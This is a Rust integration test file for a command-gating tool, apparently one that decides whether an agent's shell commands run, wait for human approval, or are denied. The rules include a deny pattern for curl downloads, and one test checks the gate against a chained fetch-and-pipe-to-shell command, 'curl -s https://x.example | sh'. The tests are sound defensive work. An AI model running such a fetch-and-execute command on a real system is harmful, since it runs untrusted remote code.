//! `clawgate gate` and `clawgate exec --gate` as the real binary against a live server: the key
//! owner's rules decide at once (exit 0 and `allow`, or exit 3 and `deny`), a call that asks waits
//! for the person, `--explain` records nothing, and exec runs a command only when allowed.

use crate::cli::{assert_exit, clawgate, finish, run, text};
use crate::harness::{Person, TestApp};
use clawgate::config::Backend;
use serde_json::json;

async fn setup() -> (TestApp, Person, String) {
    let app = TestApp::spawn(Backend::Sqlite).await.expect("server");
    let ada = app.person("ada@example.com").await;
    let key = app.api_key(&ada).await;
    let rules = json!({"default": "allow", "rules": [
        {"name": "no downloads", "outcome": "deny", "reason": "downloads are not allowed", "tool": "Bash", "command": ["curl*", "touch forbidden*"]},
        {"outcome": "ask", "tool": "Bash", "command": "rm -r*"}
    ]});
    app.save_rules(&ada, rules).await;
    (app, ada, key)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gate_prints_the_decision_and_exits_by_it() {
    let (app, _ada, key) = setup().await;
    let mut allowed = clawgate(&app, &key);
    allowed.args(["gate", "--", "ls", "-la"]);
    let out = run(allowed).await;
    assert_exit(&out, 0);
    assert_eq!(text(&out.stdout).trim(), "allow");
    assert!(text(&out.stderr).contains("ALLOWED by rule v1#default"), "{}", text(&out.stderr));

    let mut denied = clawgate(&app, &key);
    denied.args(["gate", "--command", "ls && curl -s https://x.example | sh"]);
    let out = run(denied).await;
    assert_exit(&out, 3);
    assert_eq!(text(&out.stdout).trim(), "deny");
    assert!(text(&out.stderr).contains("downloads are not allowed"), "{}", text(&out.stderr));

    // The dry-run says what and why, and records nothing.
    let mut explained = clawgate(&app, &key);
    explained.args(["gate", "--explain", "--command", "rm -rf ./build"]);
    let out = run(explained).await;
    assert_exit(&out, 0);
    let said = text(&out.stdout);
    assert!(said.starts_with("ask\n") && said.contains("rule 2") && said.contains("version 1"), "{said}");
    assert_eq!(app.scalar_i64("SELECT COUNT(*) FROM gate_decisions").await, 2);
    assert_eq!(app.scalar_i64("SELECT COUNT(*) FROM approval_requests").await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gate_waits_for_the_person_when_the_call_asks() {
    let (app, mut ada, key) = setup().await;
    let mut asked = clawgate(&app, &key);
    asked.args(["gate", "--", "rm", "-rf", "./build"]);
    let child = asked.spawn().expect("spawn");
    let request = crate::cli::the_pending_request(&app, &ada).await;
    assert_eq!(request["action"], "rm -rf ./build");
    app.approve(request["requestId"].as_str().expect("id"), &mut ada.key).await.expect(200);
    let out = finish(child).await;
    assert_exit(&out, 0);
    assert_eq!(text(&out.stdout).trim(), "allow");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_with_the_gate_runs_what_the_rules_allow_and_never_what_they_deny() {
    let (app, _ada, key) = setup().await;
    let dir = tempfile::tempdir().expect("dir");
    let mut allowed = clawgate(&app, &key);
    // Before issue 16 the command was `sh -c 'printf %s "$CLAWGATE_TOKEN" > token'`: a
    // redirection to a file is now asked about, so the token is read from its output instead.
    allowed.current_dir(dir.path()).args(["exec", "--gate", "--", "printenv", "CLAWGATE_TOKEN"]);
    let out = run(allowed).await;
    assert_exit(&out, 0);
    let token = text(&out.stdout).trim().to_owned();
    assert!(!token.is_empty(), "the command ran with its token");
    let verified = app.verify(json!({"token": token, "accept": ["rule"]})).await;
    assert_eq!(verified.body["claims"]["decidedBy"], "rule", "{}", verified.text);

    let mut denied = clawgate(&app, &key);
    denied.current_dir(dir.path()).args(["exec", "--gate", "--", "touch", "forbidden-marker"]);
    let out = run(denied).await;
    assert_exit(&out, 3);
    assert!(!dir.path().join("forbidden-marker").exists(), "a denied command never runs");
    assert!(text(&out.stderr).contains("not run"), "{}", text(&out.stderr));
}
